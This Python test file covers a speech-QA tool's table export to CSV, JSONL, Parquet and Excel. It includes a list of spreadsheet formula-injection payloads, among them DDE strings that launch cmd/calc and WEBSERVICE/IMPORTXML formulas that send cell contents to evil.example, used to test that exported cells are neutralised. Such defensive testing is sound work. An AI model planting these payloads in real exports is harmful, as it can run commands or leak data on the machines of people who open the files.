"""Tables as files: what goes in comes out again, and nothing in them is a formula."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import stat
from pathlib import Path

import numpy as np
import openpyxl
import pandas
import pyarrow.csv
import pyarrow.parquet
import pytest
from hypothesis import given
from hypothesis import strategies as st

from speechqa.cli import run as command
from speechqa.errors import UsageError
from speechqa.export import WHATS, Choice, blocks, write_table
from speechqa.export.cells import guarded, unguarded
from speechqa.export.sheet import MOST_ROWS, Sheet
from speechqa.store import open_store
from speechqa.store.newest import newest_assessments, with_results
from tests.web_store import TALK, book, made_call, make_store

SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "=1+1",
    '=HYPERLINK("http://evil.example","click")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML(CONCAT("http://evil.example",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
]
PAYLOADS = list(
    dict.fromkeys(
        [
            *FORMULAS,
            *(f"{sign}2+5+cmd|' /C calc'!A0" for sign in SIGNS),
            *(f"{sign}" for sign in SIGNS),
            *(f"{blank}{FORMULAS[0]}" for blank in ("\t", "\r", "\n", " ", "\u00a0", "\u3000")),
            *(f"{blank}{FORMULAS[0]}" for blank in ("\ufeff", "\u200b", "'", '"', "''", "\"'")),
            *(f"harmless{cut}{sign}1+1" for cut in ("\t", ";", "\n", "\r\n") for sign in SIGNS),
            *(f'harmless";{sign}1+1' for sign in SIGNS),
            *(f"x; {sign}cmd|' /C calc'!A0" for sign in SIGNS),
        ]
    )
)


def dangerous(cell):
    """Whether a spreadsheet would take a cell's text for a formula."""
    bare = cell.lstrip(' \t\r\n"\u00a0\u3000\ufeff\u200b')
    return bare[:1] in tuple(SIGNS) and bool(bare[:1])


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    folder = tmp_path_factory.mktemp("export")
    calls = [made_call(n, agent=("AnnaP", "Ben")[n % 2], queue="bill") for n in range(1, 12)]
    quiet = {"agent": [[1000, 5000], [12_000, 15_000]], "customer": [[5500, 7000]]}
    spans = {party: np.array(one) for party, one in quiet.items()}
    calls.append(made_call(12, agent="AnnaP", queue="bill", speech=spans))
    calls.append(made_call(13, agent="AnnaP", queue="sales", talk=[("agent", "您 好")]))
    calls.append(
        made_call(
            14,
            agent=None,
            queue=None,
            started_at=None,
            status="refused",
            reason_code="not-audio",
            reason="this is a text",
            talk=[],
            speech={},
            peaks={},
            duration_ms=0,
        )
    )
    return make_store(folder, calls)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    calls = [
        made_call(
            100 + number,
            agent=payload,
            queue=payload,
            call_id=payload,
            talk=[*TALK, ("customer", payload)],
            status="damaged",
            reason=payload,
            caller=payload,
        )
        for number, payload in enumerate(PAYLOADS)
    ]
    return make_store(folder, calls)


def made(store, what, form, choice=None, **options):
    file = io.BytesIO()
    rows = write_table(file, store, what, choice or Choice(), form, book=book, **options)
    file.seek(0)
    return file, rows


def rows_of(store, what, **options):
    return [row for block in blocks(store, what, Choice(), text=True) for row in block.to_pylist()]


@pytest.mark.parametrize("what", WHATS)
def test_parquet_and_json_lines_give_back_every_row(store, what):
    expected = rows_of(store, what)
    file, rows = made(store, what, "parquet")
    assert pyarrow.parquet.read_table(file).to_pylist() == expected
    file, again = made(store, what, "jsonl")
    assert [json.loads(line) for line in file] == expected
    assert rows == again == len(expected) > 0


@pytest.mark.parametrize("what", WHATS)
def test_csv_gives_back_every_text_number_and_null(store, what):
    expected = rows_of(store, what)
    file, _ = made(store, what, "csv")
    read = pyarrow.csv.read_csv(
        file,
        convert_options=pyarrow.csv.ConvertOptions(
            strings_can_be_null=True,
            quoted_strings_can_be_null=False,
            column_types={name: "string" for name in expected[0] if _is_text(expected, name)},
        ),
    ).to_pylist()
    for one, row in zip(read, expected, strict=True):
        for name, value in row.items():
            got = unguarded(one[name]) if isinstance(one[name], str) else one[name]
            wanted = "; ".join(value) if isinstance(value, list) else value
            assert got == (pytest.approx(wanted, rel=1e-6) if _is_number(wanted) else wanted), name


def _is_text(rows, name):
    return any(isinstance(row[name], str | list) for row in rows)


def _is_number(value):
    return isinstance(value, int | float) and not isinstance(value, bool)


def test_pandas_and_duckdb_read_the_csv(store, tmp_path):
    import duckdb

    file, rows = made(store, "calls", "csv")
    (tmp_path / "calls.csv").write_bytes(file.getvalue())
    frame = pandas.read_csv(tmp_path / "calls.csv")
    assert list(frame.columns[:2]) == ["call_id", "agent_id"]
    assert len(frame) == rows
    sql = f"SELECT count(*), count(score_percent) FROM '{tmp_path / 'calls.csv'}'"
    assert duckdb.sql(sql).fetchall() == [(14, frame["score_percent"].count())]


@pytest.mark.parametrize("what", WHATS)
def test_a_sheet_gives_back_every_cell_with_its_type(store, what):
    from datetime import datetime

    expected = rows_of(store, what)
    file, rows = made(store, what, "xlsx")
    title = "Agents" if what == "scorecards" else what
    sheet = openpyxl.load_workbook(file)[title]
    head, *cells = sheet.iter_rows(values_only=True)
    assert rows == len(cells) == len(expected)
    for one, row in zip(cells, expected, strict=True):
        for name, got in zip(head, one, strict=True):
            value = row[name]
            wanted = "; ".join(value) if isinstance(value, list) else value
            if name == "started_at" and wanted:
                wanted = datetime.fromisoformat(wanted)
            if wanted == "":
                wanted = None
            assert got == (pytest.approx(wanted) if _is_number(wanted) else wanted), name


def test_the_workbook_has_the_supervisors_sheets_filters_formats_and_charts(store):
    file, _ = made(store, "scorecards", "xlsx")
    found = openpyxl.load_workbook(file)
    wanted = ["Overview", "Agents", "Days", "Calls", "Hits", "Rules", "Measures"]
    assert found.sheetnames == wanted
    for name in wanted[1:]:
        assert found[name].freeze_panes == "B2"
        assert found[name].auto_filter.ref == found[name].dimensions
    assert len(found["Overview"]._charts) == 3
    assert found["Agents"].conditional_formatting
    assert found["Hits"].conditional_formatting
    formats = {
        cell.value: found["Agents"].cell(2, cell.column).number_format
        for cell in found["Agents"][1]
    }
    assert formats["score_percent"] == "0.0"
    assert formats["talk_share"] == "0.0%"
    assert found["Calls"].cell(2, 3).number_format == "yyyy-mm-dd hh:mm:ss"
    measures = {row[0]: row[5] for row in found["Measures"].iter_rows(min_row=2, values_only=True)}
    assert len(measures) > 30
    assert "silence" in measures["longest_silence_ms"].casefold()
    assert {row[6] for row in found["Hits"].iter_rows(min_row=2, values_only=True)} == {"violated"}


def test_the_charts_point_at_the_cells_of_all_agents(store):
    import zipfile

    file, rows = made(store, "scorecards", "xlsx")
    with zipfile.ZipFile(file) as parts:
        charts = [parts.read(n).decode() for n in parts.namelist() if "charts/chart" in n]
    assert any(
        f"Agents!$B$2:$B${rows + 1}" in chart or f"Agents!$A$2:$A${rows + 1}" in chart
        for chart in charts
    )


@pytest.mark.parametrize("cut", [",", ";", "\t"])
@pytest.mark.parametrize("what", ["calls", "words", "hits", "scorecards"])
def test_no_payload_is_a_formula_in_csv_however_the_lines_are_cut(hostile, what, cut):
    assert len(PAYLOADS) >= 80
    file, _ = made(hostile, what, "csv")
    text = file.getvalue().decode("utf-8-sig")
    found = [
        cell
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=cut)
        for cell in row
        if dangerous(cell)
    ]
    numbers = [cell for cell in found if _reads_as_number(cell)]
    assert [cell for cell in found if cell not in numbers] == []


def _reads_as_number(cell):
    try:
        float(cell.split(",")[0])
    except ValueError:
        return False
    return True


def test_every_payload_stays_readable_in_csv(hostile):
    file, _ = made(hostile, "calls", "csv")
    text = file.getvalue().decode("utf-8-sig")
    read = {unguarded(row["call_id"]) for row in csv.DictReader(io.StringIO(text, newline=""))}
    assert read == set(PAYLOADS)


@pytest.mark.parametrize("what", ["scorecards", "words", "calls", "hits"])
def test_no_payload_is_a_formula_in_a_workbook_and_the_text_stays(hostile, what):
    import zipfile

    file, _ = made(hostile, what, "xlsx")
    found = openpyxl.load_workbook(file)
    cells = [cell for sheet in found for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert [cell.coordinate for cell in cells if cell.hyperlink] == []
    with zipfile.ZipFile(file) as parts:
        sheets = [parts.read(n) for n in parts.namelist() if n.startswith("xl/worksheets/sheet")]
    assert not any(b"<f>" in one or b"<f " in one for one in sheets)
    texts = {cell.value for cell in cells if cell.data_type in "sn"}
    spoken = {payload.replace("\r\n", "\n").replace("\r", "\n") for payload in PAYLOADS}
    if what == "calls":
        assert spoken <= {str(text).replace("\r\n", "\n").replace("\r", "\n") for text in texts}


@given(st.text(alphabet=st.sampled_from("=+-@;\t\r\n'\" a1\uff1d\u00a0")))
def test_guarding_is_undone_exactly_and_leaves_no_formula(text):
    safe = guarded(text)
    assert unguarded(safe) == text
    assert not dangerous(safe)
    assert safe.replace("'", "") == text.replace("'", "")


def test_nothing_said_is_exported_without_text(store):
    for what in WHATS:
        for form in ("csv", "jsonl"):
            file, _ = made(store, what, form, text=False)
            assert b"shut up" not in file.getvalue()
    file, _ = made(store, "words", "jsonl", text=False)
    assert {json.loads(line)["text"] for line in file} == {None}


def test_words_whose_text_was_not_kept_are_null_not_blanks(tmp_path):
    from speechqa.pipeline.textless import without_text

    store = make_store(tmp_path, [without_text(made_call(1))])
    file, rows = made(store, "words", "jsonl")
    assert rows > 20
    assert {json.loads(line)["text"] for line in file} == {None}


def test_a_call_judged_twice_appears_once_with_the_newest_judgement(tmp_path):
    from speechqa.pipeline.assess import assess
    from speechqa.rulebook import load
    from speechqa.store.assessments import assessments_table
    from tests.web_store import settings

    calls = [made_call(n) for n in range(1, 4)]
    store = make_store(tmp_path, calls)
    other = load("starter", settings().rules)
    store.commit_assessments(assessments_table(assess(calls, other, settings().timing)))
    rows = rows_of(store, "calls")
    assert len(rows) == 3
    assert {row["rulebook"].split()[0] for row in rows} == {"starter"}
    assert (
        len(
            {
                (row["key"], row["rule"], row["start_ms"], row["step"], row["outcome"])
                for row in rows_of(store, "hits")
            }
        )
        > 0
    )
    assert {row["rule"] for row in rows_of(store, "hits")} <= {r.id for r in other.call_rules}


def test_blocks_read_in_several_goes_are_those_read_in_one(store, monkeypatch):
    """Also a call without an assessment keeps its row, in its place."""
    for what in ("calls", "hits", "words"):
        whole = list(blocks(store, what, Choice(), text=True))
        monkeypatch.setattr("speechqa.export.joining.AT_ONCE", 3)
        parts = list(blocks(store, what, Choice(), text=True))
        monkeypatch.undo()
        assert len(parts) > len(whole)
        assert pyarrow.concat_tables(parts).to_pylist() == pyarrow.concat_tables(whole).to_pylist()
    keys = pyarrow.concat_tables(list(blocks(store, "calls", Choice(), text=True)))["key"]
    assert len(keys) == 14


def test_only_what_is_asked_of_the_newest_answers_is_kept(store):
    keys = set(store.current(["key"])["key"].to_pylist())
    whole = {row["key"]: row["results"] for row in store.assessments().to_pylist()}
    lean = newest_assessments(
        store, keys, ["results"], shrink=with_results(["rule"], outcome="violated")
    )
    assert lean.column_names == ["key", "assessed_at", "results"]
    assert {row["key"]: row["results"] for row in lean.to_pylist()} == {
        key: [{"rule": one["rule"]} for one in answers if one["outcome"] == "violated"]
        for key, answers in whole.items()
    }
    assert newest_assessments(store, set(), ["results"]).num_rows == 0


def test_filters_choose_as_the_other_commands_do(store):
    def ids(**given):
        return [
            row["call_id"]
            for block in blocks(store, "calls", Choice(**given), text=True)
            for row in block.to_pylist()
        ]

    assert len(ids()) == 14
    assert set(ids(agent="Ben")) == {f"call-{n}" for n in range(1, 13, 2)}
    assert ids(queue="sales") == ["call-13"]
    assert ids(calls=("call-3", "call-5")) == ["call-5", "call-3"]
    assert set(ids(since="2025-02-05")) == {"call-4", "call-9"}
    assert "call-14" not in ids(until="2025-02-28")
    with pytest.raises(UsageError, match="no call fits"):
        ids(agent="nobody")
    with pytest.raises(UsageError, match="is not a day"):
        ids(since="yesterday")


def test_a_refused_call_is_a_row_with_nulls_and_its_reason(store):
    (row,) = [row for row in rows_of(store, "calls") if row["status"] == "refused"]
    assert row["reason"] == "this is a text"
    assert row["score_percent"] is row["longest_silence_ms"] is row["violated"] is None


def test_a_full_sheet_is_refused_with_what_to_do_instead(store):
    import pyarrow as pa
    import xlsxwriter

    book_ = xlsxwriter.Workbook(io.BytesIO(), {"constant_memory": True})
    sheet = Sheet(book_, "x", pa.schema([("n", pa.int64())]))
    sheet.rows = MOST_ROWS
    with pytest.raises(UsageError, match="a sheet cannot hold"):
        sheet.write(pa.table({"n": [1]}))


def test_the_command_writes_a_private_file_and_keeps_one_that_is_there(store, tmp_path, capsys):
    target = tmp_path / "out.csv"
    arguments = ["export", "calls", "--format", "csv", "--store", store.uri, "--out", str(target)]
    assert command([*arguments, "--json"]) == 0
    said = json.loads(capsys.readouterr().out)
    assert (said["rows"], said["bytes"]) == (14, target.stat().st_size)
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    before = target.read_bytes()
    assert command(arguments) == 2
    assert "--force" in capsys.readouterr().err
    assert target.read_bytes() == before
    assert command([*arguments, "--force", "--agent", "Ben"]) == 0
    assert len(target.read_bytes()) < len(before)
    assert [path.name for path in tmp_path.iterdir()] == ["out.csv"]


@pytest.mark.usefixtures("heeds_interrupts")
@pytest.mark.parametrize("stop", [signal.SIGINT, signal.SIGTERM])
@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_an_export_that_is_stopped_leaves_nothing_behind(store, tmp_path, monkeypatch, stop, form):
    def stopped(*given, **named):
        os.kill(os.getpid(), stop)

    monkeypatch.setattr("speechqa.export.flat.Csv.write", stopped)
    monkeypatch.setattr("speechqa.export.sheet.Sheet.write", stopped)
    out = tmp_path / f"calls.{form}"
    arguments = ["export", "calls", "--format", form, "--store", store.uri, "--out", str(out)]
    before = signal.getsignal(signal.SIGTERM)
    assert command(arguments) == 130
    assert list(tmp_path.iterdir()) == []
    assert signal.getsignal(signal.SIGTERM) is before


def test_a_failed_export_leaves_the_old_file_and_no_rest(store, tmp_path, monkeypatch, capsys):
    target = tmp_path / "out.csv"
    target.write_text("old")
    monkeypatch.setattr("speechqa.export.flat.Csv.close", _full_disk)
    arguments = ["export", "calls", "-f", "csv", "--store", store.uri, "--out", str(target)]
    assert command([*arguments, "--force"]) == 1
    assert "No space left" in capsys.readouterr().err
    assert [path.read_text() for path in tmp_path.iterdir()] == ["old"]


def _full_disk(self):
    import errno

    raise OSError(errno.ENOSPC, "No space left on device")


@pytest.mark.parametrize(
    ("arguments", "code", "said"),
    [
        (["calls", "-f", "docx"], 2, "one of csv"),
        (["events", "-f", "vtt"], 2, "for calls"),
        (["call-1", "-f", "csv"], 2, "--call call-1"),
        (["scorecards", "-f", "csv", "--call", "call-1"], 2, "pools calls"),
        (["no-such-call", "-f", "vtt"], 2, "no such call"),
        (["calls", "-f", "csv", "--out", "no/such/folder/x.csv"], 5, "no such folder"),
        (["calls", "-f", "csv", "--out", "-", "--json"], 2, "name a file"),
    ],
)
def test_wrong_requests_say_what_next(store, arguments, code, said, capsys, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    assert command(["export", *arguments, "--store", store.uri]) == code
    text = capsys.readouterr().err
    assert said in text
    assert "Traceback" not in text
    assert list(tmp_path.iterdir()) == []


def test_a_missing_library_is_named_with_how_to_install_it(store, monkeypatch):
    import sys

    monkeypatch.setitem(sys.modules, "xlsxwriter", None)
    with pytest.raises(UsageError, match="xlsxwriter") as caught:
        made(store, "calls", "xlsx")
    assert "speechqa[export]" in caught.value.hint


def test_an_unnamed_file_is_called_after_what_it_holds(store, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    assert command(["export", "hits", "-f", "parquet", "--store", store.uri]) == 0
    assert Path("hits.parquet").stat().st_size > 0
    assert open_store(store.uri)
